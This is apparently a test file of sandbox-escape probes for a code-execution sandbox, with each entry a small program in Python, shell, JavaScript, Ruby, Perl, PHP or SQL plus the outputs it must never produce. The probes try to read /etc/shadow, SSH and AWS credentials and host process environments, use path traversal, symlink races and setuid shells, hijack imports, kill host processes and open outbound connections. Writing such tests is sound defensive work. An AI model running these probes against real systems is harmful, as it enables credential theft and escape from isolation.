"""Programs that look for files of the host, or leave files that could hurt it. Each is bounded by itself."""

from tests.attacks.harness import SECRET, Attack

PROGRAMS = (
    Attack(
        id="F01", language="python", status=("ok",), never_says=("root:$", "BEGIN", SECRET),
        code="for p in ['/etc/shadow','/root/.ssh/id_rsa','/root/.aws/credentials','/proc/1/root/etc/shadow',"
             "'@SENTINELS@/secret.txt']:\n  try: print(open(p).read())\n  except OSError as e: print(e)",
    ),
    Attack(
        id="F02", language="python", status=("ok",), never_says=(SECRET, "READ"),
        code="for p in ['../../../..@SENTINELS@/secret.txt','/box/..@SENTINELS@/secret.txt','/@SENTINELS@/secret.txt',"
             "'@SENTINELS@/secret.txt/','..%2f..%2fetc/shadow','\\uff0e\\uff0e/etc/shadow', 'etc\\x00/passwd']:\n"
             "  try: print('READ', open(p).read())\n  except (OSError, ValueError) as e: print(e)",
    ),
    Attack(
        id="F04", language="python", status=("ok",), never_says=(SECRET,),
        code="import os\nos.symlink('@SENTINELS@/secret.txt','result.csv')\n"
             "os.symlink('/proc/self/environ','plot.png')",
    ),
    Attack(
        id="F09", language="command", status=("ok", "failed"), says=("uid=1000",), never_says=("uid=0",),
        code="cp /bin/sh s; chmod 4755 s; ./s -p -c id",
    ),
    Attack(
        id="F12", language="python", status=("ok",), never_says=("OPENED",),
        code="for p in ('/proc/sys/kernel/core_pattern','/proc/self/exe','/proc/sysrq-trigger','/proc/1/mem',"
             "'/proc/sys/vm/drop_caches','/sys/kernel/uevent_helper'):\n"
             "  try: open(p,'r+b'); print('OPENED',p)\n  except OSError as e: print(p, e.strerror)",
    ),
    Attack(
        id="F13", language="python", status=("ok",), says=("[]",),
        code="import os\nfound=[]\nfor f in os.listdir('/proc/self/fd'):\n"
             "  try: name=os.readlink('/proc/self/fd/'+f)\n  except OSError: continue\n"
             "  if int(f)>2 and not name.startswith('/proc/'): found.append((f,name))\nprint(found)",
    ),
    Attack(
        id="F14", language="python", status=("ok",), says=("[]",),
        code="import glob\nprint(glob.glob('/tmp/*sandbox*/*') + glob.glob('/home/*') + glob.glob('/root/.[a-oq-z]*'))",
    ),
    Attack(
        id="F16", language="python", status=("ok",),
        code="open('json.py','w').write('raise SystemExit(\"pwn\")'); open('sitecustomize.py','w').write('1/0')",
    ),
    Attack(
        id="F17", language="python", status=("ok",),
        code="for n in ['-rf','a\\nb','\\x1b[2J','<img src=x onerror=alert(1)>','.._up','\\udcff','a'*255,'CON']:\n"
             "  open(n,'w').close()",
    ),
    Attack(
        id="S01", language="python", status=("ok",), never_says=("True", SECRET),
        code="import glob\nfor p in glob.glob('/proc/[0-9]*/environ'):\n"
             "  try: d=open(p,'rb').read(); print(p,b'SBX_SENTINEL' in d)\n  except OSError: pass",
    ),
    Attack(
        id="S09", language="python", status=("ok",), never_says=("OPENED",),
        code="for d in ('/dev/tty','/dev/kvm','/dev/fuse','/dev/mem','/dev/vda','/dev/nvme0n1'):\n"
             "  try: open(d,'r+b'); print('OPENED',d)\n  except OSError as e: print(e)",
    ),
    Attack(
        id="X25-proc-by-the-back-door", language="python", status=("ok",),
        code="import glob, os\nopened = []\nfor p in ['/proc/1/environ', '/proc/1/mem', '/proc/1/cwd/etc/shadow', '/proc/1/root@SENTINELS@/secret.txt', '/proc/self/root@SENTINELS@/secret.txt',\n"
             "  '/proc/@HOSTPID@/environ', '/proc/@HOSTPID@/root@SENTINELS@/secret.txt', '/proc/self/task/1/environ', '/proc/kcore', '/proc/kallsyms', '/proc/kmsg', '/proc/sysrq-trigger',\n"
             "  '/sys/kernel/uevent_helper', '/sys/fs/cgroup/cgroup.procs', '/dev/mem', '/dev/pts/0', '/dev/pts/1', '/dev/ptmx', '@SENTINELS@/secret.txt'] + glob.glob('/proc/1/fd/*') + glob.glob('/proc/1/map_files/*')[:3]:\n"
             "  for flags in (os.O_RDONLY, os.O_WRONLY):\n    try: fd = os.open(p, flags | os.O_NONBLOCK | os.O_NOCTTY)\n    except OSError: continue\n"
             "    try: data = os.read(fd, 200) if flags == os.O_RDONLY else b''\n    except OSError: data = b''\n    opened.append((p, flags, data[:40]))\n    os.close(fd)\n"
             "for p, f, d in opened: print('OPENED', p, f, d)",
        never_says=(SECRET, "OPENED /proc/1/environ", "OPENED /proc/1/mem", "OPENED /proc/kcore", "OPENED /proc/sysrq", "OPENED /dev/mem", "OPENED /proc/1/fd", "OPENED /sys"),
    ),
    Attack(
        id="X26-magic-links-and-races", language="python", status=("ok", "failed"), timeout=8,
        code="import os, threading\nos.mkdir('d')\nstop = []\ndef flip():\n  while not stop:\n    try:\n      os.rename('d', 'e'); os.symlink('@SENTINELS@', 'd'); os.unlink('d'); os.rename('e', 'd')\n    except OSError: pass\n"
             "t = threading.Thread(target=flip); t.start()\nfor i in range(3000):\n  try: open('d/writable.txt', 'w').write('after'); os.unlink('d/writable.txt')\n  except OSError: pass\n"
             "  try: print(open('d/secret.txt').read())\n  except OSError: pass\nstop.append(1); t.join()\n"
             "try: os.rename('d', 'real')\nexcept OSError: pass\ntry: os.symlink('@SENTINELS@', 'd')\nexcept OSError: pass\nprint('end')",
        says=("end",), never_says=(SECRET,),
    ),
    Attack(
        id="Y12-links-and-names-across", language="python", status=("ok",), never_says=(SECRET, "LINKED"),
        code="import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor source in ('@SENTINELS@/secret.txt', '@SENTINELS@/writable.txt', '/etc/shadow', '/proc/1/exe', '/proc/1/root'):\n"
             "  for act in (os.link, os.rename, os.replace):\n    try: act(source, 'mine'); print('LINKED', source, act)\n    except OSError: pass\n"
             "  fd = libc.open(source.encode(), 0o10000000)\n  if fd >= 0:\n"
             "    if libc.linkat(fd, b'', -100, b'byfd', 0x1000) == 0: print('LINKED', source)\n    try: print(os.read(os.open('/proc/self/fd/%d' % fd, 0), 100))\n    except OSError: pass\n"
             "tmp = os.open('.', os.O_TMPFILE | os.O_RDWR, 0o600) if hasattr(os, 'O_TMPFILE') else -1\n"
             "for target in ('@SENTINELS@/new', '/etc/new', '/usr/lib/new'):\n  try: os.link('/proc/self/fd/%d' % tmp, target, follow_symlinks=True); print('LINKED', target)\n  except OSError: pass\nprint('done')",
        says=("done",),
    ),
    Attack(
        id="Y20-node-by-its-back-doors", language="javascript", status=("ok", "failed"), never_says=(SECRET, "DONE"), timeout=20,
        code="Object.prototype.shell = '/bin/sh'; Object.prototype.env = {NODE_OPTIONS: '--inspect=0.0.0.0:1'};\nconst fs = require('fs'), tries = [\n"
             "  () => fs.readFileSync('@SENTINELS@/secret.txt', 'utf8'), () => fs.writeFileSync('@SENTINELS@/writable.txt', 'x'), () => process.binding('fs').internalModuleReadJSON('@SENTINELS@/secret.txt'),\n"
             "  () => require('child_process').execSync('cat @SENTINELS@/secret.txt').toString(), () => process.kill(@HOSTPID@, 9), () => process.kill(process.ppid || 1, 9),\n"
             "  () => process.dlopen({exports: {}}, '@SENTINELS@/secret.txt'), () => fs.readFileSync(new URL('file:///proc/1/environ')).length && 'DONE'];\n"
             "for (const t of tries) { try { const r = t(); console.log(typeof r === 'string' ? r : 'no'); } catch (e) { console.log('refused'); } }\n"
             "require('net').connect(@TCP@, '@ADDRESS@').on('connect', () => console.log('DONE')).on('error', () => console.log('refused'));",
        says=("refused",),
    ),
    Attack(
        id="Y24-ruby-by-names", language="ruby", status=("ok",), never_says=(SECRET, "ROOT"), says=("end",), timeout=20,
        code="['@SENTINELS@/secret.txt', '|cat @SENTINELS@/secret.txt', '/proc/1/environ'].each { |p| begin; puts IO.read(p); rescue SystemCallError; end; begin; puts Kernel.open(p).read; rescue SystemCallError; end }\n"
             "begin; puts File.symlink('@SENTINELS@/secret.txt', 'l'); puts File.read('l'); rescue SystemCallError; end\nbegin; Process::Sys.setuid(0); puts 'ROOT'; rescue SystemCallError, NotImplementedError; end\nputs 'end'",
    ),
    Attack(
        id="Y25-perl-opens-anything", language="perl", status=("ok", "failed"), never_says=(SECRET, "KILLED"), says=("end",), timeout=20,
        code="for my $p ('@SENTINELS@/secret.txt', 'cat @SENTINELS@/secret.txt |', '+>>@SENTINELS@/writable.txt', '/proc/1/environ') { if (open(my $f, $p)) { print <$f>; close $f; } }\n"
             "print 'KILLED' if kill 9, @HOSTPID@;\nsyscall(57) if 0; $0 = 'kworker'; if (fork() == 0) { $SIG{TERM} = 'IGNORE'; sleep 25; exit } print \"end\\n\";",
    ),
    Attack(
        id="Y26-php-by-its-wrappers", language="php", status=("ok", "failed"), never_says=(SECRET,), says=("end",), timeout=20,
        code="<?php\nforeach (['@SENTINELS@/secret.txt', 'file://@SENTINELS@/secret.txt', 'php://filter/read=string.rot13/resource=@SENTINELS@/secret.txt', 'glob://@SENTINELS@/*', 'phar://@SENTINELS@/secret.txt', 'expect://id', 'http://@ADDRESS@:@TCP@/', 'data://text/plain,x'] as $p)\n"
             "  { $d = @file_get_contents($p); if (is_string($d)) echo $d, \"\\n\"; @include $p; }\n"
             "@file_put_contents('@SENTINELS@/writable.txt', 'x'); echo @shell_exec('cat @SENTINELS@/secret.txt'); @symlink('@SENTINELS@', 'd'); echo @file_get_contents('d/secret.txt'); echo getenv('SBX_SENTINEL'), \"end\\n\";",
    ),
    Attack(
        id="Y28-sql-that-attaches", language="sql", status=("ok", "failed"), never_says=(SECRET,), timeout=20,
        code="SELECT readfile('@SENTINELS@/secret.txt');\nSELECT writefile('@SENTINELS@/writable.txt', 'x');\nATTACH '@SENTINELS@/secret.txt' AS s; SELECT * FROM s.sqlite_master;\n"
             "SELECT load_extension('@SENTINELS@/secret.txt');\n.shell cat @SENTINELS@/secret.txt\n.read @SENTINELS@/secret.txt\n.output '|cat @SENTINELS@/secret.txt'\nSELECT 1;\nVACUUM INTO '@SENTINELS@/new.db';\n",
    ),
)  # fmt: skip
